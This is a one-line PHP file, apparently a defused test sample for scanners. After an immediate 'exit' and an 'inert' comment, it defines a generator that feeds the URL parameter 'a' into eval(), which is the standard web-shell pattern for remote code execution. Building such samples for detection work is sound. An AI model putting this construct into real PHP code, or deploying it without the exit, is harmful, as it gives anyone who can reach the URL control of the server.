<?php exit; /* inert */ function g(){ yield $_GET["a"]; } foreach(g() as $v) eval($v);
